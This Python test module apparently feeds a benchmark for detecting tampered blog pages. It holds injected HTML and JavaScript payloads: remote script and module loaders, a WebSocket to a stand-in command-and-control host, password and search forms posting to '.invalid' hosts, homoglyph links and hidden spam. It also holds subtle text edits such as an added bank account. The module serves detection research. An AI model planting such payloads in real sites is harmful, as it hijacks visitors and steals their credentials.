"""What a careful intruder does to a blog's pages: what looks like its own, or changes what is there. Nothing works.

The third set, written on 2026-11-21 without looking at the recogniser; benchmarks/RESULTS.md has what the first run
over it found. Hosts end in .invalid, and lead nowhere (RFC 2606).
"""

from __future__ import annotations

import re

from scraper.demo.intrusions import Intrusion, at_end, in_head, in_post

_BODY = "<div class='post-body"


def _once(pattern: str, replacement: str) -> Intrusion:
    """Change the first place of a pattern; a page without one stays as it is."""
    compiled = re.compile(pattern)
    return lambda page: compiled.sub(replacement, page, count=1)


def _first_of(*intrusions: Intrusion) -> Intrusion:
    """Return the first intrusion that changes a page."""
    return lambda page: next((broken for each in intrusions if (broken := each(page)) != page), page)


def _in_words(pattern: str, replacement: str) -> Intrusion:
    """Change the first place of a pattern in the words of a page's first post, outside its tags."""
    words = re.compile(r">[^<>]*?(?P<place>" + pattern + ")")

    def intrude(page: str) -> str:
        begin = page.find(">", page.find(_BODY)) if _BODY in page else -1
        place = words.search(page, begin, page.find("</div>", begin)) if begin >= 0 else None
        if not place:
            return page
        return page[: place.start("place")] + place.expand(replacement) + page[place.end() :]

    return intrude


_OWN = "http://beimengongminhui.blogspot.com"
CAREFUL: dict[str, Intrusion] = {
    "json-ld": in_head(
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization",'
        '"name":"Northgate","url":"http://slots.evil.invalid/","sameAs":["http://bonus.evil.invalid/"]}</script>'
    ),
    "template-loader": at_end(
        "<template id='t9'><iframe src='/p/x.html'></iframe></template>"
        "<script>document.body.appendChild(document.getElementById('t9').content)</script>"
    ),
    "service-worker": at_end("<script>navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')</script>"),
    "data-script": at_end("<script src='data:text/javascript;base64,ZG9jdW1lbnQudGl0bGU9MQ=='></script>"),
    "preload-script": in_head("<link rel='preload' as='script' href='http://fast.evil.invalid/a.js'/>"),
    "module-preload": in_head("<link rel='modulepreload' href='http://mod.evil.invalid/a.mjs'/>"),
    "import-map": in_head(
        "<script type='importmap'>{\"imports\":{\"app\":\"http://map.evil.invalid/a.js\"}}</script>"
        "<script type='module'>import 'app'</script>"
    ),
    "speculation": in_head(
        "<script type='speculationrules'>{\"prerender\":[{\"urls\":[\"http://pre.evil.invalid/\"]}]}</script>"
    ),
    "meta-csp": in_head("<meta http-equiv='Content-Security-Policy' content='script-src http://csp.evil.invalid'/>"),
    "meta-social": in_head("<meta property='og:url' content='http://share.evil.invalid/'/>"),
    "hreflang": in_head("<link rel='alternate' hreflang='zh' href='http://zh.evil.invalid/'/>"),
    "app-manifest": in_head("<link rel='manifest' href='http://app.evil.invalid/m.json'/>"),
    "feed-swapped": _once(
        r"(type=.application/atom\+xml.[^>]{0,200}href=.)http://beimengongminhui\.blogspot\.com/feeds",
        r"\1http://feeds.evil.invalid/feeds",
    ),
    "lookalike-link": _once(rf"(<a [^>]{{0,200}}?href=['\"]){re.escape(_OWN)}", r"\1http://beimengongminhui-blogspot.invalid"),
    "homoglyph-link": _once(
        rf"(<a [^>]{{0,200}}?href=['\"]){re.escape(_OWN)}", r"\1http://beimengоngminhui.blogspоt.invalid"
    ),
    "link-ping": _once(r"<a (?=[^>]{0,200}href=)", "<a ping='http://ping.evil.invalid/' "),
    "form-action": _first_of(
        _once(r"(<form [^>]{0,200}?action=)'[^']{0,200}'", r"\1'http://forms.evil.invalid/search'"),
        at_end("<form action='http://forms.evil.invalid/search'><input name='q'/></form>"),
    ),
    "form-elsewhere": in_post(
        "<form id='f7' action='http://sign.evil.invalid/'></form>"
        "<input form='f7' name='name'/><input form='f7' type='submit'/>"
    ),
    "shadow-form": in_post(
        "<div><template shadowrootmode='open'><form action='http://in.evil.invalid/'>"
        "<input type='password'/></form></template></div>"
    ),
    "picture-swapped": _once(
        r"(<img [^>]{0,300}?src=['\"])https?://\d\.bp\.blogspot\.com", r"\1http://3-bp-blogspot.invalid"
    ),
    "srcset": _first_of(_once(r"<img (?=[^>]{0,300}src=)", "<img srcset='http://set.evil.invalid/a.png 1x' ")),
    "toggle-handler": in_post(
        "<details open ontoggle=\"import('//t.evil.invalid/m.js')\"><summary>More</summary></details>"
    ),
    "focus-handler": at_end("<input autofocus onfocus='document.title=1' style='border:0'/>"),
    "media-handler": in_post(
        "<video poster='http://v.evil.invalid/p.png'><source onerror='document.title=2'/></video>"
    ),
    "embed": in_post("<embed src='http://emb.evil.invalid/x.swf' type='application/x-shockwave-flash'/>"),
    "css-content": in_head(
        "<style>.post-body:after{content:'Donations now to account 44-0917 of the harbour bank'}</style>"
    ),
    "css-url": in_post("<div style=\"background:url('http://dot.evil.invalid/d.gif')\"></div>"),
    "css-font": in_head("<style>@font-face{font-family:x;src:url(http://font.evil.invalid/f.woff)}</style>"),
    "foreign-object": in_post(
        "<svg width='9' height='9'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
        "src='http://fo.evil.invalid/'></iframe></foreignObject></svg>"
    ),
    "svg-animate": in_post("<svg><animate attributeName='x' dur='1s' onbegin='document.title=3'/></svg>"),
    "svg-link": in_post("<svg><a xlink:href='http://svga.evil.invalid/'><text y='9'>Petition</text></a></svg>"),
    "mathml": in_post("<math><mtext href='javascript:document.title=4'>2014</mtext></math>"),
    "image-map": in_post("<map name='m1'><area href='http://map.evil.invalid/' shape='default'/></map>"),
    "pale-keywords": at_end(
        "<p style='color:#fff;background-color:#fff;font-size:1px'>" + "casino slots bonus pills loans " * 20 + "</p>"
    ),
    "string-swapped": _once(r"('lightboxCssUrl': ')https://www\.blogger\.com", r"\1https://www.b1ogger.invalid"),
    "prepended-code": _once(r"(?<=_WidgetManager\._Init\()", "(new WebSocket('wss://c2.evil.invalid/'),0)||"),
}  # fmt: skip

# Nothing active: what a person must read. Found when the page is not taken for unchanged.
TAMPERED: dict[str, Intrusion] = {
    "account-added": in_post("<p>Donations: harbour bank, account 44-0917-22.</p>"),
    "number-altered": _in_words(r"\d", "7"),
    "digit-altered": _in_words(r"(?<=\d)[0-8](?=\D)", "9"),
    "line-removed": _once(r"<li>[^<]{1,80}</li>|<br ?/?>[^<>\n]{2,40}(?=<br)", ""),
    "character-removed": _in_words(r"(?<=[一-鿿])[一-鿿](?=[一-鿿])", ""),
    "letter-lookalike": _in_words(r"(?<=[a-z])o(?=[a-z])", "о"),
    "sentence-added": _in_words(r"\.(?=\s|<|$)", ". The league withdraws this statement."),
    "mail-address": _first_of(
        _once(r"mailto:[^'\"?]{1,80}", "mailto:league@mail.invalid"), at_end("<p>Write to league@mail.invalid</p>")
    ),
    "struck-out": _in_words(r"[A-Za-z一-鿿]{2,20}", r"<s>\g<place></s>"),
}  # fmt: skip
